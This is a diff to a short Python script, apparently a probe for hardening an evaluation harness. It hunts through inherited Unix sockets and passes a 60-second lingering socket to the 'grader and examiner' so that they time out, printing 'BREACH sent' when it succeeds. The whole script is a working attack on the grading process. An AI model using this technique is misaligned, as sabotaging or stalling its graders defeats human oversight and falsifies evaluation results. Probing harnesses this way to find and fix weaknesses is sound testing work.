@@ -1,4 +1,4 @@
-"""A connection that waits for a minute when it is closed is handed to the grader, which would close it, read or not."""
+"""A connection that waits for a minute when it is closed is handed to grader and examiner, who would close it, read or not."""
 
 # honest score: 6
 # flag: timed out
@@ -22,20 +22,28 @@ lingers.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 60)
 
 
 # %%
-def is_ours(number):
+def is_socket(number):
     try:
         return stat.S_ISSOCK(os.fstat(number).st_mode)
     except OSError:
         return False
 
 
-leads_to_the_grader = next(number for number in range(3, 64) if is_ours(number))
-with socket.socket(fileno=os.dup(leads_to_the_grader)) as end:
-    try:
-        socket.send_fds(end, [b"\0\0\0\x02{}"], [lingers.fileno()])
-        print("BREACH sent")
-    except OSError:
-        pass
+tried = 0
+for number in filter(is_socket, range(3, 64)):
+    with socket.socket(fileno=os.dup(number)) as end:
+        if end.family == socket.AF_UNIX:
+            tried += 1
+            try:
+                socket.send_fds(end, [b"\0\0\0\x02{}"], [lingers.fileno()])
+                print("BREACH sent")
+            except OSError:
+                pass
+if tried < 2:
+    print("BREACH it found only", tried)
+
+
+# %%
 lingers.close()
 
 
